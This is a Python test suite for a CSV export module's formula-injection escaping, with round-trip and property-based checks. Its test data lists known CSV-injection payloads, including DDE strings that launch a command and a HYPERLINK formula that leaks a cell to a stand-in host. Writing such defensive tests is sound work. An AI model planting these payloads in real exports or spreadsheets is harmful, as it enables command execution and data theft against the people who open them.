from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workbook.exporting.csv_injection import escape_formula, unescape_formula

# What OWASP lists under "CSV Injection", with the attacks it and others tell of.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
    " =1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "=cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?leak="&A1,"Click")',
    '=DDE("cmd";"/C calc";"x")',
    '@SUM(1+9)*cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!D2",
    "%0A-3+3+cmd|' /C calc'!D2\n=1",
]
STARTS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")


def cells_of(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_begins_like_a_formula_whatever_separates_the_cells(formula: str, delimiter: str) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerow(
        [escape_formula(formula), escape_formula(f"x;{formula}"), escape_formula(f"x\n{formula}")]
    )

    cells = cells_of(written.getvalue(), delimiter)

    assert [cell for cell in cells if cell.strip("\x00\ufeff \t\r\n").startswith(STARTS)] == []


@given(st.text() | st.text(alphabet="'=+-@;\t\r\n a\x00\ufeff\uff1d"))
def test_every_text_comes_back(text: str) -> None:
    assert unescape_formula(escape_formula(text)) == text


@given(st.text(alphabet="'=+-@;\t\r\n a\x00\ufeff\uff1d"))
def test_guarded_twice_is_released_twice(text: str) -> None:
    assert unescape_formula(unescape_formula(escape_formula(escape_formula(text)))) == text


@pytest.mark.parametrize("text", ["", "it's", "a - b", "5 = 5", "me@example.org", "tea; coffee", "'quoted'"])
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert escape_formula(text) == text
